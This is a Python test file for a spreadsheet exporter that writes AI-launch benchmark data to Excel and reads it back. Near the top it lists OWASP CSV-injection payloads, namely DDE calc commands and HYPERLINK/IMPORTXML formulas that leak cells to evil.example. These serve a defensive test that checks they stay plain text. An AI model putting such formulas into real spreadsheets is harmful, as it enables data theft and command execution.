"""The Excel exporter and reader: content read back with openpyxl, python-calamine and LibreOffice."""

from __future__ import annotations

import csv
import enum
import io
import re
import subprocess
import time
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import IO, Any
from xml.etree import ElementTree

import attrs
import openpyxl
import pytest
from defusedxml import DefusedXmlException
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter
from python_calamine import CalamineWorkbook

import launchbrief
from launchbrief import cli
from launchbrief._reproducible import document_time, normalize_zip
from launchbrief.exceptions import ExportError, InvalidLaunchError
from launchbrief.exporters import _archive, _colors, get_exporter
from launchbrief.exporters import xlsx as xlsx_module
from launchbrief.exporters._colors import STATUS_COLORS
from launchbrief.exporters._xlsx_layout import (
    DATA_TABLES,
    enum_word,
    escape_text,
    format_list,
    format_mapping,
    parse_list,
    parse_mapping,
    unescape_text,
)
from launchbrief.exporters.pptx import palette
from launchbrief.exporters.xlsx import SHEETS, XlsxExporter, XlsxTextWarning, read_workbook
from launchbrief.model import (
    DatedEvent,
    Direction,
    Launch,
    Result,
    RolloutStatus,
    Scale,
    Settings,
    Source,
    SourceKind,
)
from tests.office import CSV_EVERY_SHEET, convert, pdf_pages, pdf_text
from tests.samples import facts, family_launch
from tests.strategies import launches

# Every score in the source article, as the article words it: benchmark, model, score.
ARTICLE_NUMBERS = (
    ("CharXiv Reasoning", "Muse Spark", 86.4),
    ("CharXiv Reasoning", "Claude Opus 4.6 Max", 65.3),
    ("CharXiv Reasoning", "Gemini 3.1 Pro High", 80.2),
    ("CharXiv Reasoning", "GPT 5.4", 82.8),
    ("CharXiv Reasoning", "Grok 4.2", 60.9),
    ("MMMU Pro", "Muse Spark", 80.4),
    ("SimpleVQA", "Muse Spark", 71.3),
    ("HealthBench Hard", "Muse Spark", 42.8),
    ("HealthBench Hard", "Claude Opus 4.6 Max", 14.8),
    ("HealthBench Hard", "Gemini 3.1 Pro High", 20.6),
    ("HealthBench Hard", "GPT 5.4", 40.1),
    ("HealthBench Hard", "Grok 4.2", 20.3),
)

# OWASP's CSV-injection examples and their usual variants.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "'=1+1",
    "%0A-3+3+cmd|' /C calc'!A0",
)

# Fields holding ids: they must stay valid slugs when texts are replaced.
_ID_FIELDS = {"id", "benchmark", "model", "mode", "sources", "versus", "url"}


# --------------------------------------------------------------------------- helpers


@pytest.fixture(scope="module")
def workbook_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built-in launch exported by ``launchbrief export -f xlsx``."""
    folder = tmp_path_factory.mktemp("export")
    assert cli.main(["export", "-f", "xlsx", "-o", str(folder)]) == 0
    return folder / "muse-spark.xlsx"


def _export(launch: Launch, path: Path, **options: Any) -> Path:
    XlsxExporter().export(launch, path, **options)
    return path


def _rows(path: Path, sheet: str) -> list[tuple[Any, ...]]:
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        return [tuple(row) for row in workbook[sheet].iter_rows(values_only=True)]
    finally:
        workbook.close()


def _records(rows: list[tuple[Any, ...]] | list[list[Any]]) -> list[dict[str, Any]]:
    header = [str(value) for value in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def _sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def _evolve_texts(record: Any, texts: Iterator[str]) -> Any:
    """``record`` with every free text (not ids, not URLs) replaced by the next of ``texts``."""
    if isinstance(record, tuple):
        return tuple(_evolve_texts(item, texts) for item in record)
    if not attrs.has(type(record)):
        return record
    changes: dict[str, Any] = {}
    for field in attrs.fields(type(record)):
        value = getattr(record, field.name)
        if field.name in _ID_FIELDS or isinstance(value, enum.Enum):
            continue
        if isinstance(value, str):
            changes[field.name] = next(texts)
        elif isinstance(value, tuple) and value and isinstance(value[0], str):
            changes[field.name] = tuple(next(texts) for _item in value)
        elif isinstance(value, tuple) or attrs.has(type(value)):
            changes[field.name] = _evolve_texts(value, texts)
    return attrs.evolve(record, **changes)


def _cycle(values: tuple[str, ...]) -> Iterator[str]:
    while True:
        yield from values


# --------------------------------------------------------------------------- the built-in workbook


def test_cli_writes_the_workbook(workbook_path: Path) -> None:
    """``launchbrief export -f xlsx`` writes ``muse-spark.xlsx``, a zip archive openpyxl opens."""
    assert workbook_path.is_file()
    assert zipfile.is_zipfile(workbook_path)
    assert isinstance(get_exporter("xlsx"), XlsxExporter)
    assert XlsxExporter.document is True
    workbook = openpyxl.load_workbook(workbook_path, read_only=True)
    assert workbook.sheetnames == list(SHEETS)
    workbook.close()


def test_article_numbers_in_results_with_openpyxl(workbook_path: Path) -> None:
    """Every number of the article is a real number on the Results row of its benchmark and model."""
    records = _records(_rows(workbook_path, "Results"))
    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in records if r["Score"] is not None}
    for benchmark, model, score in ARTICLE_NUMBERS:
        assert found[benchmark, model] == score
        assert isinstance(found[benchmark, model], float)
    assert len(found) == len(ARTICLE_NUMBERS)


def test_article_numbers_in_benchmarks_with_openpyxl(workbook_path: Path) -> None:
    """The Benchmarks matrix holds each article number at its benchmark's row and model's column."""
    rows = _rows(workbook_path, "Benchmarks")
    header = [str(value).removesuffix(" (launched)") for value in rows[0]]
    matrix = {row[0]: dict(zip(header, row, strict=False)) for row in rows[1:]}
    for benchmark, model, score in ARTICLE_NUMBERS:
        assert matrix[benchmark][model] == score
    assert rows[0][5] == "Muse Spark (launched)"


def test_article_numbers_with_calamine(workbook_path: Path) -> None:
    """python-calamine, reading independently, finds every article number in Results and Benchmarks."""
    book = CalamineWorkbook.from_path(str(workbook_path))
    results = _records(book.get_sheet_by_name("Results").to_python())
    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in results if r["Score"] != ""}
    matrix_rows = book.get_sheet_by_name("Benchmarks").to_python()
    header = [str(value).removesuffix(" (launched)") for value in matrix_rows[0]]
    matrix = {row[0]: dict(zip(header, row, strict=True)) for row in matrix_rows[1:]}
    for benchmark, model, score in ARTICLE_NUMBERS:
        assert found[benchmark, model] == score
        assert matrix[benchmark][model] == score
    assert len(found) == len(ARTICLE_NUMBERS)
    assert book.sheet_names == list(SHEETS)


def test_results_rows_carry_analysis(workbook_path: Path, launch: Launch) -> None:
    """Results rows show rank, gap, comparison, vendor-only flag and sources as the analysis gives them."""
    records = _records(_rows(workbook_path, "Results"))
    assert len(records) == len(launch.results)
    by_key = {(r["Benchmark id"], r["Model id"]): r for r in records}
    for board in launchbrief.leaderboards(launch):
        for standing in board.standings:
            row = by_key[board.benchmark.id, standing.model.id]
            assert row["Rank"] == standing.rank
            if standing.gap is None:
                assert row["Gap to leader"] is None
            else:
                assert row["Gap to leader"] == pytest.approx(standing.gap, abs=1e-9)
            assert row["Launch"] == "muse-spark"
    arc = by_key["arc-agi-2", "muse-spark"]
    assert arc["Comparison"] == "trails: gemini-3-1-pro, gpt-5-4"
    assert arc["Score"] is None
    assert arc["Claim"] == "trails Gemini 3.1 Pro and GPT 5.4 on ARC AGI 2"
    assert arc["Vendor only"] is launchbrief.vendor_only(launch, launch.results[12])
    assert arc["Source ids"] == "meta-chart, article"
    assert arc["Provenance"] == "Meta benchmark chart; Source article"
    assert by_key["agentic-coding", "muse-spark"]["Comparison"] == "not_clearly_ahead"


def test_every_data_sheet_is_a_table(workbook_path: Path) -> None:
    """Each data sheet is one Excel Table whose unique, space-free name and headers match its header row."""
    workbook = openpyxl.load_workbook(workbook_path)
    names = []
    for sheet in [spec.sheet for spec in DATA_TABLES] + ["Launch", "Benchmarks"]:
        ws = workbook[sheet]
        assert len(ws.tables) == 1, sheet
        table = next(iter(ws.tables.values()))
        names.append(table.displayName)
        assert " " not in table.displayName
        header = [cell.value for cell in ws[1]]
        columns = [column.name for column in table.tableColumns]
        assert columns == header, sheet
        assert all(isinstance(name, str) for name in header)
        assert len({name.casefold() for name in header}) == len(header)
        assert table.ref.startswith("A1:")
        assert table.autoFilter is not None
        assert table.tableStyleInfo.showRowStripes is True
        assert ws.freeze_panes in ("A2", "B2")
        assert all(ws.column_dimensions[c.column_letter].width >= 8 for c in ws[1])
    assert len(set(names)) == len(names)


def test_numbers_are_numbers_with_formats(workbook_path: Path) -> None:
    """Scores, ranks and gaps are numeric cells with explicit number formats, never text."""
    workbook = openpyxl.load_workbook(workbook_path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    for name in ("Score", "Rank", "Gap to leader"):
        column = header.index(name) + 1
        cells = [ws.cell(row, column) for row in range(2, ws.max_row + 1)]
        filled = [cell for cell in cells if cell.value is not None]
        assert filled, name
        for cell in filled:
            assert cell.data_type == "n", (name, cell.coordinate)
            assert cell.number_format != "General", (name, cell.coordinate)
    launch_sheet = workbook["Launch"]
    values = {row[0].value: row[1] for row in launch_sheet.iter_rows(min_row=2)}
    assert values["as_of"].value == datetime(2026, 11, 30)
    assert values["as_of"].number_format == "yyyy-mm-dd"
    assert values["schema_version"].value == 2


_C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
_A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"


def _charts(path: Path) -> list[ElementTree.Element]:
    with zipfile.ZipFile(path) as archive:
        return [
            ElementTree.fromstring(archive.read(name))
            for name in archive.namelist()
            if name.startswith("xl/charts/chart")
        ]


def _chart_title(chart: ElementTree.Element) -> str:
    return "".join(t.text or "" for t in chart.find(f"{_C}chart/{_C}title").iter(f"{_A}t"))


def _referenced(path: Path, ref: str) -> list[Any]:
    """The values of the cells a chart formula such as ``'Charts'!$C$6:$C$10`` refers to."""
    sheet, _bang, cells = ref.rpartition("!")
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        area = workbook[sheet.strip("'")][cells.replace("$", "")]
        rows = area if isinstance(area, tuple) else ((area,),)
        return [cell.value for row in rows for cell in (row if isinstance(row, tuple) else (row,))]
    finally:
        workbook.close()


def _fill(element: ElementTree.Element | None) -> str | None:
    found = None if element is None else element.find(f"{_C}spPr/{_A}solidFill/{_A}srgbClr")
    return None if found is None else found.get("val")


def test_native_bar_charts_as_in_the_deck(workbook_path: Path) -> None:
    """Native bar charts with axis titles and labels, each ranked best first beside its table,
    the launched model's bar in the house accent and the rivals' in the deck's neutral gray."""
    charts = _charts(workbook_path)
    accent = xlsx_module.DEFAULT_ACCENT.lstrip("#")
    assert accent == palette.DEFAULT_ACCENT  # the deck's accent
    titles = [_chart_title(chart) for chart in charts]
    for chart in charts:
        plot = chart.find(f"{_C}chart/{_C}plotArea")
        assert plot is not None
        assert plot.find(f"{_C}barChart") is not None
        for axis in (f"{_C}catAx", f"{_C}valAx"):
            assert plot.find(f"{axis}/{_C}title") is not None
            assert plot.find(f"{axis}/{_C}delete").get("val") == "0"
        for series in plot.iter(f"{_C}ser"):
            assert series.find(f"{_C}dLbls/{_C}showVal").get("val") == "1"
            # Every chart draws the table at its left on the Charts sheet.
            assert series.find(f"{_C}val/{_C}numRef/{_C}f").text.startswith("'Charts'!$C$")
    assert titles == [
        "CharXiv Reasoning (percent, higher is better)",
        "HealthBench Hard (percent, higher is better)",
        "Where Muse Spark ships: surfaces by rollout status",
    ]
    for chart, expected in zip(
        charts[:2],
        (
            ["Muse Spark", "GPT 5.4", "Gemini 3.1 Pro High", "Claude Opus 4.6 Max", "Grok 4.2"],
            ["Muse Spark", "GPT 5.4", "Gemini 3.1 Pro High", "Grok 4.2", "Claude Opus 4.6 Max"],
        ),
        strict=True,
    ):
        (series,) = chart.iter(f"{_C}ser")
        labels = _referenced(workbook_path, next(series.find(f"{_C}cat").iter(f"{_C}f")).text)
        values = _referenced(workbook_path, series.find(f"{_C}val/{_C}numRef/{_C}f").text)
        assert labels == expected
        assert values == sorted(values, reverse=True)  # ranked, best first
        assert _fill(series) == palette.RIVAL_GREYS[0]
        points = {int(p.find(f"{_C}idx").get("val")): _fill(p) for p in series.iter(f"{_C}dPt")}
        assert points == {0: accent}  # Muse Spark's bar, the only launched one
    # Leaderboards where Muse Spark alone has a number (MMMU Pro, SimpleVQA), or known only
    # in words, get no chart; counts of one benchmark each (leads and trails) neither.
    assert not any("MMMU Pro" in t or "SimpleVQA" in t or "ARC AGI 2" in t for t in titles)
    assert not any(t.startswith("Where Muse Spark leads") for t in titles)


def test_rollout_bars_take_the_status_colors(workbook_path: Path) -> None:
    """The rollout chart colors each status' bar as the deck does: live green, planned slate."""
    chart = next(c for c in _charts(workbook_path) if "rollout status" in _chart_title(c))
    (series,) = chart.iter(f"{_C}ser")
    labels = _referenced(workbook_path, next(series.find(f"{_C}cat").iter(f"{_C}f")).text)
    assert labels == ["Live", "Preview", "Planned"]
    points = [_fill(p) for p in series.iter(f"{_C}dPt")]
    assert points == [
        STATUS_COLORS[s] for s in (RolloutStatus.LIVE, RolloutStatus.PREVIEW, RolloutStatus.PLANNED)
    ]


@pytest.mark.parametrize("name", ["muse-spark", "aster-2", "family"])
def test_no_chart_of_zeros_and_ones(name: str, tmp_path: Path, aster: Launch) -> None:
    """No chart draws only 0s and 1s; a family's leads and trails, in the dozens, are charted."""
    record = {
        "muse-spark": lambda: launchbrief.load("muse-spark"),
        "aster-2": lambda: aster,
        "family": lambda: family_launch(models=4, benchmarks=12, cohorts=2),
    }[name]()
    path = _export(record, tmp_path / f"{name}.xlsx")
    charts = _charts(path)
    assert charts
    for chart in charts:
        values = [
            value
            for ref in chart.iter(f"{_C}f")
            if "$C$" in (ref.text or "") or ":$" in (ref.text or "")
            for value in _referenced(path, ref.text)
            if isinstance(value, (int, float))
        ]
        assert values, _chart_title(chart)
        assert not set(values) <= {0, 1}, _chart_title(chart)
    if name == "family":
        assert any(_chart_title(c).startswith("Where the 4 Nova models lead") for c in charts)


def test_family_charts_cluster_few_models_and_rank_many(tmp_path: Path) -> None:
    """Up to six models share a clustered chart (launched first, in tones of the accent, rivals
    in grays); more models get a ranked chart per leaderboard, as in the deck."""
    few = family_launch(models=2, benchmarks=12, cohorts=1)
    few = attrs.evolve(
        few,
        models=few.models[:4],
        results=tuple(r for r in few.results if r.model in {m.id for m in few.models[:4]}),
    )
    path = _export(few, tmp_path / "few.xlsx")
    clustered = [
        c
        for c in _charts(path)
        if len(list(c.iter(f"{_C}ser"))) > 1 and "scores" in _chart_title(c)
    ]
    assert clustered
    for chart in clustered:
        series = list(chart.iter(f"{_C}ser"))
        names = [_referenced(path, s.find(f"{_C}tx/{_C}strRef/{_C}f").text)[0] for s in series]
        launched = [n for n in names if n.startswith("Nova")]
        assert names[: len(launched)] == launched  # launched models first
        fills = [_fill(s) for s in series]
        assert fills[0] == xlsx_module.DEFAULT_ACCENT.lstrip("#")
        assert all(f in palette.RIVAL_GREYS for f in fills[len(launched) :])
        assert len(series) <= 6
    many = family_launch(models=8, benchmarks=6, cohorts=1)
    path = _export(many, tmp_path / "many.xlsx")
    scored = [c for c in _charts(path) if "(" in _chart_title(c) and "Where" not in _chart_title(c)]
    assert scored
    for chart in scored:
        (series,) = chart.iter(f"{_C}ser")  # ranked: one series, the launched bars picked out
        values = _referenced(path, series.find(f"{_C}val/{_C}numRef/{_C}f").text)
        lower = "lower is better" in _chart_title(chart)
        assert values == sorted(values, reverse=not lower)


def test_chart_tables_hold_the_analysis(workbook_path: Path, launch: Launch) -> None:
    """The tables of the leads/trails and rollout counts hold the analysis' counts, in words."""
    rows = [row for row in _rows(workbook_path, "Charts") if any(v is not None for v in row)]
    cells = {row[1]: row[2:4] for row in rows if len(row) > 2 and row[1] is not None}
    for summary in launchbrief.categories(launch):
        if summary.leads or summary.trails:
            assert cells[summary.category] == (summary.leads, summary.trails)
    for status, surfaces in launchbrief.rollout(launch).groups:
        assert cells[enum_word(status.value)][0] == len(surfaces)


def test_benchmarks_matrix_marks_leaders_and_claims(workbook_path: Path) -> None:
    """The matrix highlights each row's leader by rule, marks the launched column and notes qualitative claims."""
    workbook = openpyxl.load_workbook(workbook_path)
    ws = workbook["Benchmarks"]
    rules = [(str(rng.sqref), rule) for rng in ws.conditional_formatting for rule in rng.rules]
    assert len(rules) == 1
    sqref, rule = rules[0]
    assert sqref == f"F2:J{ws.max_row}"
    assert "MAX($F2:$J2)" in rule.formula[0]
    assert "MIN($F2:$J2)" in rule.formula[0]
    assert rule.formula[0].startswith("AND($E2=TRUE,")  # only a ranked row has a leader
    header = {cell.value: cell for cell in ws[1]}
    assert header["Muse Spark (launched)"].fill.fgColor.rgb.endswith(
        xlsx_module.DEFAULT_ACCENT.lstrip("#")
    )
    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    arc = rows["ARC AGI 2"][5]
    assert arc.value is None
    assert arc.comment is not None
    assert arc.comment.text.startswith("trails Gemini 3.1 Pro High, GPT 5.4 — Meta benchmark chart")
    livecode = rows["LiveCodeBench Pro"][5]
    assert livecode.comment.text.startswith("trails GPT 5.4 — Meta benchmark chart")


def test_matrix_notes_a_model_scored_in_several_modes(tmp_path: Path, launch: Launch) -> None:
    """A model with numbers in several modes shows its best, with a note listing each mode."""
    extra = (
        Result(benchmark="mmmu-pro", model="gpt-5-4", mode="default", score=70.5),
        Result(benchmark="mmmu-pro", model="gpt-5-4", mode="thinking", score=78.25),
    )
    record = attrs.evolve(launch, results=launch.results + extra)
    path = _export(record, tmp_path / "modes.xlsx")
    ws = openpyxl.load_workbook(path)["Benchmarks"]
    header = [cell.value for cell in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "MMMU Pro")
    cell = row[header.index("GPT 5.4")]
    assert cell.value == 78.25
    assert (
        cell.comment.text
        == "Best of several modes: GPT 5.4 (Thinking): 78.25; GPT 5.4 (Default): 70.5"
    )
    assert read_workbook(path) == record


def test_document_properties(workbook_path: Path, launch: Launch) -> None:
    """Title, subject, creator ``launchbrief <version>`` and the pinned creation time are set."""
    properties = openpyxl.load_workbook(workbook_path, read_only=True).properties
    assert properties.title == launch.title
    assert "Muse Spark" in properties.subject
    assert properties.creator == f"launchbrief {launchbrief.__version__}"
    assert properties.created == document_time()
    assert properties.modified == document_time()


def test_summary_and_about(workbook_path: Path, launch: Launch) -> None:
    """Summary and About give the launch at a glance, the versions and how to re-import."""
    summary = [v for row in _rows(workbook_path, "Summary") for v in row if isinstance(v, str)]
    assert summary[0] == launch.title
    assert launchbrief.rollout(launch).headline in summary
    assert launchbrief.safety(launch).headline in summary
    assert any(v.startswith(f"launchbrief {launchbrief.__version__}") for v in summary)
    about = [v for row in _rows(workbook_path, "About") for v in row if isinstance(v, str)]
    assert f"launchbrief {launchbrief.__version__}" in about
    assert "version 2" in about
    assert any('launchbrief.load("muse-spark.xlsx")' in v for v in about)
    for sheet in SHEETS:
        assert sheet in about


# --------------------------------------------------------------------------- reading back


def test_round_trip_builtin(workbook_path: Path, launch: Launch) -> None:
    """``launchbrief.load`` of the exported workbook gives back the built-in record."""
    assert launchbrief.load(workbook_path) == launch


@given(launches())
def test_round_trip_generated(tmp_path_factory: pytest.TempPathFactory, record: Launch) -> None:
    """Any valid record, hostile text included, reads back equal; control characters are reported."""
    path = tmp_path_factory.mktemp("rt") / "x.xlsx"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        XlsxExporter().export(record, path)
    texts = attrs.asdict(record, recurse=True)
    illegal = any(
        re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text) for text in _all_strings(texts)
    )
    assert [type(w.message) for w in caught] == ([XlsxTextWarning] if illegal else [])
    assert read_workbook(path) == record


def _all_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _all_strings(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _all_strings(item)


@given(st.text(alphabet=st.sampled_from("_x0123456789aAfF\x00\x01\x1f\ufffe")))
@example("_x0000\x1f")  # the escape of U+001F closes a literal "_x0000" (found by Hypothesis)
def test_escapes_round_trip(text: str) -> None:
    """Excel's ``_xHHHH_`` escaping gives back any text, literal escape-like sequences included."""
    stored = escape_text(text)
    assert unescape_text(stored) == text
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", stored)


def test_control_characters_warn_and_round_trip(tmp_path: Path, launch: Launch) -> None:
    """XML-illegal characters are written as escapes with a warning naming the field, and read back."""
    record = attrs.evolve(launch, title="Bell\x07 and _x0041_ and \x00end")
    path = tmp_path / "ctrl.xlsx"
    with pytest.warns(XlsxTextWarning, match=r"1 text field\(s\).*\(title\)"):
        _export(record, path)
    assert read_workbook(path) == record


def test_edited_workbook_loads_back(tmp_path: Path, launch: Launch) -> None:
    """A changed cell, re-sorted rows, an added row and a changed field load back as edited."""
    path = _export(launch, tmp_path / "edit.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    width = len(header)
    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=2, max_col=width)]
    rows.reverse()  # re-sorted, as an analyst sorting by a column would
    score = header.index("Score")
    bench, model = header.index("Benchmark id"), header.index("Model id")
    grok = next(r for r in rows if r[bench] == "charxiv-reasoning" and r[model] == "grok-4-2")
    grok[score] = 61.5
    new_row: list[Any] = [None] * width
    new_row[header.index("Benchmark id")] = "mmmu-pro"
    new_row[header.index("Model id")] = "gpt-5-4"
    new_row[score] = "79"  # typed as text: numbers in text are read as numbers
    new_row[header.index("Source ids")] = "meta-chart"
    rows.append(new_row)  # below the table, as an analyst adds a row
    for row_number, values in enumerate(rows, start=2):
        for column, value in enumerate(values, start=1):
            ws.cell(row_number, column).value = value
    fields = workbook["Launch"]
    title_row = next(row for row in fields.iter_rows(min_row=2) if row[0].value == "title")
    title_row[1].value = "Edited title"
    workbook.save(path)

    results = list(reversed(launch.results))
    position = next(
        i
        for i, r in enumerate(results)
        if (r.benchmark, r.model) == ("charxiv-reasoning", "grok-4-2")
    )
    results[position] = attrs.evolve(results[position], score=61.5)
    results.append(
        Result(benchmark="mmmu-pro", model="gpt-5-4", score=79.0, sources=("meta-chart",))
    )
    expected = attrs.evolve(launch, title="Edited title", results=tuple(results))
    assert launchbrief.load(path) == expected


def test_edit_mistakes_are_located(tmp_path: Path, launch: Launch) -> None:
    """Every mistake in an edited workbook is reported at once, naming sheet, cell and column."""
    path = _export(launch, tmp_path / "wrong.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    ws["L12"] = "n/a"  # Score of results[10]
    ws["G5"] = "gpt5"  # Model id of results[3]
    ws["R14"] = "trails: GPT 5.4"  # a name where an id belongs
    modes = workbook["Modes"]
    modes["C3"] = "two"  # Order of modes[1]
    fields = workbook["Launch"]
    fields.append(["licence.name", "x"])
    workbook.save(path)
    with pytest.raises(InvalidLaunchError) as caught:
        launchbrief.load(path)
    lines = [str(problem) for problem in caught.value.problems]
    assert lines == [
        f"{path}: Launch!A{fields.max_row} (Field): unknown field 'licence.name'; did you mean"
        " 'license.name'?",
        f"{path}: Results!G5 (Model id): results[3].model: unknown model 'gpt5' (known:"
        " claude-opus-4-6, gemini-3-1-pro, gpt-5-4, grok-4-2, muse-spark; did you mean 'gpt-5-4'?)",
        f"{path}: Results!L12 (Score): results[10].score: expected a number, got 'n/a'",
        f"{path}: Results!R14 (Comparison): results[12].comparisons: 'GPT 5.4' is not a model id:"
        " list the ids of the Models sheet after the relation, as in 'trails: gpt-5-4, gemini-3-1-pro'",
        f"{path}: Modes!C3 (Order): modes[1].order: expected a whole number, got 'two'",
    ]


def _paraphrased(launch: Launch, benchmark: str) -> Launch:
    """``launch`` with the claim on ``benchmark`` made a paraphrase (no longer quoted)."""
    results = tuple(
        attrs.evolve(r, claim="behind GPT 5.4 here", quoted=False)
        if r.benchmark == benchmark
        else r
        for r in launch.results
    )
    return attrs.evolve(launch, results=results)


def test_quoted_column_round_trips(tmp_path: Path, launch: Launch) -> None:
    """Results carry Quoted beside Claim (TRUE, FALSE, empty without a claim) and read back equal."""
    record = _paraphrased(launch, "livecodebench-pro")
    path = _export(record, tmp_path / "quoted.xlsx")
    rows = _rows(path, "Results")
    header = list(rows[0])
    assert header.index("Quoted") == header.index("Claim") + 1
    assert "L" == get_column_letter(header.index("Score") + 1)
    shown = {(r["Benchmark id"], r["Model id"]): r["Quoted"] for r in _records(rows)}
    assert {
        (r.benchmark, r.model): (r.quoted if r.claim is not None else None) for r in record.results
    } == shown
    assert False is shown["livecodebench-pro", "muse-spark"]
    assert True is shown["arc-agi-2", "muse-spark"]
    assert None is shown["charxiv-reasoning", "gpt-5-4"]
    assert read_workbook(path) == record


def test_only_quoted_claims_are_in_quotation_marks(tmp_path: Path, launch: Launch) -> None:
    """Matrix notes and the Summary put the source's exact words in “ ” and a paraphrase plainly."""
    record = _paraphrased(launch, "livecodebench-pro")
    path = _export(record, tmp_path / "marks.xlsx")
    workbook = openpyxl.load_workbook(path)
    rows = {row[0].value: row for row in workbook["Benchmarks"].iter_rows(min_row=2)}
    arc_note = rows["ARC AGI 2"][5].comment.text
    livecode_note = rows["LiveCodeBench Pro"][5].comment.text
    assert "“trails Gemini 3.1 Pro and GPT 5.4 on ARC AGI 2”" in arc_note.splitlines()
    assert "behind GPT 5.4 here" in livecode_note.splitlines()
    assert "“" not in livecode_note
    summary = [v for row in _rows(path, "Summary") for v in row if isinstance(v, str)]
    arc = next(v for v in summary if v.startswith("trails") and "ARC AGI 2" in v)
    livecode = next(v for v in summary if v.startswith("trails") and "LiveCodeBench Pro" in v)
    assert arc.endswith(" — “trails Gemini 3.1 Pro and GPT 5.4 on ARC AGI 2”")
    assert livecode.endswith(" — behind GPT 5.4 here")
    assert "“" not in livecode


def test_workbook_without_quoted_column_reads_claims_as_paraphrases(
    tmp_path: Path, launch: Launch
) -> None:
    """A workbook written before the Quoted column existed still reads: its claims are paraphrases."""
    path = _export(launch, tmp_path / "older.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    column = header.index("Quoted") + 1
    ws.cell(1, column).value = "Checked"
    for row in range(2, ws.max_row + 1):
        ws.cell(row, column).value = None
    workbook.save(path)
    expected = attrs.evolve(
        launch, results=tuple(attrs.evolve(r, quoted=False) for r in launch.results)
    )
    assert launchbrief.load(path) == expected


def test_quoted_without_a_claim_is_located_in_the_workbook(tmp_path: Path, launch: Launch) -> None:
    """TRUE typed in Quoted on a row without a claim is reported at that cell."""
    path = _export(launch, tmp_path / "unquotable.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    letter = get_column_letter(header.index("Quoted") + 1)
    ws[f"{letter}3"] = True  # results[1]: Claude's CharXiv number, with no claim
    workbook.save(path)
    assert [str(problem) for problem in _problems_of(path)] == [
        f"{path}: Results!{letter}3 (Quoted): results[1].quoted: marked as the source's exact"
        " words, but there is no claim: give the words in `claim`, or set `quoted` to false"
    ]


def test_missing_sheet_or_column_is_reported(tmp_path: Path, launch: Launch) -> None:
    """A deleted data sheet or read-back column is named in the error."""
    path = _export(launch, tmp_path / "cut.xlsx")
    workbook = openpyxl.load_workbook(path)
    del workbook["Safety"]
    workbook.save(path)
    with pytest.raises(InvalidLaunchError, match="no sheet 'Safety'"):
        launchbrief.load(path)
    path = _export(launch, tmp_path / "cut.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook["Results"]["L1"] = "Points"
    workbook.save(path)
    with pytest.raises(InvalidLaunchError, match=r"Results!1:1: no column 'Score'"):
        launchbrief.load(path)


def test_subset_of_sheets_cannot_be_read_back(tmp_path: Path, launch: Launch) -> None:
    """A workbook written with only some sheets says which data sheets it lacks."""
    path = _export(launch, tmp_path / "part.xlsx", sheets=["Summary", "Results"])
    assert openpyxl.load_workbook(path, read_only=True).sheetnames == ["Summary", "Results"]
    with pytest.raises(InvalidLaunchError) as caught:
        read_workbook(path)
    assert {p.cell for p in caught.value.problems} == {
        "Benchmark details", "Cohorts", "Models", "Modes", "Rollout", "Safety", "Use cases",
        "Insights", "Sources", "Dates", "Launch",
    }  # fmt: skip


# --------------------------------------------------------------------------- hostile text


def test_owasp_payloads_never_become_formulas(tmp_path: Path, launch: Launch) -> None:
    """CSV-injection payloads in every text field stay quote-prefixed text cells and read back unchanged."""
    record = _evolve_texts(launch, _cycle(OWASP_PAYLOADS))
    record = attrs.evolve(
        record,
        sources=tuple(
            attrs.evolve(s, url=p) for s, p in zip(record.sources, OWASP_PAYLOADS, strict=False)
        ),
    )
    path = _export(record, tmp_path / "owasp.xlsx")
    workbook = openpyxl.load_workbook(path)
    seen = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in OWASP_PAYLOADS:
                    seen.add(cell.value)
                    if cell.value[0] in "=+-@\t\r":
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
                assert cell.hyperlink is None  # none of the payload URLs is a link
    assert seen == set(OWASP_PAYLOADS)
    for name, xml in _sheet_xml(path).items():
        assert not re.search(rb"<(\w+:)?f[ >/]", xml), name
    assert read_workbook(path) == record


